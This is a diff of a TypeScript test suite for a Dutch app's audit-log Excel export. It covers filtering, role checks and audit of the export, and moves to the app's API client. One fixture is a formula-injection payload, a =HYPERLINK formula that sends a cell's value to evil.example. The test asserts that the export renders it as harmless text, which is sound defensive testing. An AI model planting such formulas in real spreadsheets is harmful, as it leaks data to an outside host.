@@ -1,8 +1,11 @@
+import axios from 'axios';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { writeAudit } from '../../server/audit/auditLog';
 import { verifyAuditChain } from '../../server/audit/auditLog';
-import { startTestServer, type TestServer } from './support/testServer';
+import type { AuditFilters } from '../../shared/api/audit';
+import { createApiClient } from '../../shared/client';
+import { failure, startTestServer, type TestServer } from './support/testServer';
 
 // A4: the audit log exported as a real .xlsx with the list's filters, formula-safe cells, and the export audited.
 describe('audit export (A4)', () => {
@@ -10,15 +13,16 @@ describe('audit export (A4)', () => {
   let admin: string;
   const injected = '=HYPERLINK("https://evil.example/?x="&A1,"klik")';
 
-  async function download(query: string, token = admin) {
-    const res = await fetch(`${s.url}/api/v1/audit/export${query}`, { headers: { authorization: `Bearer ${token}` } });
-    return { res, bytes: Buffer.from(await res.arrayBuffer()) };
-  }
+  /**
+   * The workbook's bytes, through the app's own client. Over axios' fetch adapter, as in the renderer: its Node
+   * adapter hands a file over as a Node Buffer, which the client does not take for an ArrayBuffer.
+   */
+  const download = (query: AuditFilters = {}, token = admin) =>
+    createApiClient({ baseUrl: () => s.url, token: () => token }, axios.create({ adapter: 'fetch' })).call('audit.export', { query });
 
-  async function readSheet(bytes: Buffer) {
+  async function readSheet(bytes: ArrayBuffer) {
     const wb = new ExcelJS.Workbook();
-    // exceljs' typings want its own Buffer flavour; a Node Buffer is what it reads.
-    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
+    await wb.xlsx.load(bytes);
     const ws = wb.worksheets[0];
     if (!ws) throw new Error('no worksheet');
     const rows: unknown[][] = [];
@@ -32,8 +36,9 @@ describe('audit export (A4)', () => {
     await s.addStaff('karin', 'Geheim!2026', ['kcc', 'kcc-admin']);
     await s.addStaff('pieter', 'Geheim!2026', ['kcc']);
     admin = await s.signIn('anna', 'Geheim!2026', '10.1.1.1');
-    await s.api('POST', '/ip-ranges', { token: admin, body: { cidr: '10.0.0.0/8', admin: true, kcc: true, description: '+31 kantoor' }, from: '10.1.1.1' });
-    await s.api('POST', '/ip-ranges', { token: admin, body: { cidr: '192.168.0.0/16', admin: false, kcc: true }, from: '10.1.1.1' });
+    const workstation = s.client(admin, '10.1.1.1');
+    await workstation.call('ipRanges.create', { body: { cidr: '10.0.0.0/8', admin: true, kcc: true, description: '+31 kantoor' } });
+    await workstation.call('ipRanges.create', { body: { cidr: '192.168.0.0/16', admin: false, kcc: true } });
     // An attacker-chosen name (e.g. a username typed at sign-in) that a spreadsheet would run as a formula.
     await writeAudit(s.store.db, {
       at: s.clock.now().toISOString(),
@@ -48,11 +53,13 @@ describe('audit export (A4)', () => {
   afterAll(async () => s.close());
 
   it('returns a valid workbook with a header row and exactly the filtered entries, newest first', async () => {
-    const { res, bytes } = await download('?action=ip_range.');
+    // Raw fetch: the response headers are what this test reads, and the client hands back only the bytes.
+    const res = await fetch(`${s.url}/api/v1/audit/export?action=ip_range.`, { headers: { authorization: `Bearer ${admin}` } });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toContain('spreadsheetml.sheet');
     expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="auditlogboek-\d{4}-\d{2}-\d{2}\.xlsx"/);
-    const { rows } = await readSheet(bytes);
+    expect([res.headers.get('x-audit-total'), res.headers.get('x-audit-exported')]).toEqual(['2', '2']);
+    const { rows } = await readSheet(await res.arrayBuffer());
     expect(rows[0]).toEqual(['Nr.', 'Tijdstip (Amsterdam)', 'Medewerker', 'Rollen', 'Actie', 'Doel', 'Klantnummer', 'IP-adres', 'Meekijksessie', 'Details']);
     const body = rows.slice(1);
     expect(body).toHaveLength(2);
@@ -66,14 +73,14 @@ describe('audit export (A4)', () => {
 
   it('filters by actor like the list does', async () => {
     // The list first: the export's own entry is written after its rows were read.
-    const list = await s.api('GET', '/audit?actor=anna&pageSize=100', { token: admin });
-    const { rows } = await readSheet((await download('?actor=anna')).bytes);
-    expect(rows.length - 1).toBe(list.body.total);
+    const list = await s.client(admin).call('audit.list', { query: { actor: 'anna', pageSize: 100 } });
+    const { rows } = await readSheet(await download({ actor: 'anna' }));
+    expect(rows.length - 1).toBe(list.total);
     expect(rows.slice(1).every((r) => r[2] === 'anna')).toBe(true);
   });
 
   it('makes an injected formula harmless: text with a leading apostrophe, no formula cell', async () => {
-    const { ws, rows } = await readSheet((await download('?action=staff.sign_in_failed')).bytes);
+    const { ws, rows } = await readSheet(await download({ action: 'staff.sign_in_failed' }));
     expect(rows).toHaveLength(2);
     const actorCell = ws.getRow(2).getCell(3);
     expect(actorCell.type).toBe(ExcelJS.ValueType.String);
@@ -84,20 +91,21 @@ describe('audit export (A4)', () => {
   });
 
   it('records the export itself (action audit.export, with the filters) and keeps the chain intact', async () => {
-    await download('?customerNumber=hm-000001');
-    const res = await s.api('GET', '/audit?action=audit.export', { token: admin });
-    const items = res.body.items as unknown as Array<{ actor: string; details: { filters: Record<string, unknown>; rows: number } }>;
+    await download({ customerNumber: 'hm-000001' });
+    const { items } = await s.client(admin).call('audit.list', { query: { action: 'audit.export' } });
     expect(items[0]?.actor).toBe('anna');
-    expect(items[0]?.details.filters).toMatchObject({ customerNumber: 'hm-000001' });
-    expect(items[0]?.details.rows).toBe(0);
+    expect(items[0]?.details?.filters).toMatchObject({ customerNumber: 'hm-000001' });
+    expect(items[0]?.details?.rows).toBe(0);
     expect((await verifyAuditChain(s.store)).ok).toBe(true);
   });
 
   it('is for admin and kcc-admin only, and checks the filters', async () => {
     const kccAdmin = await s.signIn('karin', 'Geheim!2026');
-    expect((await download('', kccAdmin)).res.status).toBe(200);
+    expect((await download({}, kccAdmin)).byteLength).toBeGreaterThan(0);
     const kcc = await s.signIn('pieter', 'Geheim!2026');
-    expect((await download('', kcc)).res.status).toBe(403);
-    expect((await download('?from=gisteren')).res.status).toBe(400);
+    const refused = await failure(download({}, kcc));
+    expect([refused.status, refused.code]).toEqual([403, 'forbidden']);
+    const badFilter = await failure(download({ from: 'gisteren' }));
+    expect([badFilter.status, badFilter.code]).toEqual([400, 'validation']);
   });
 });
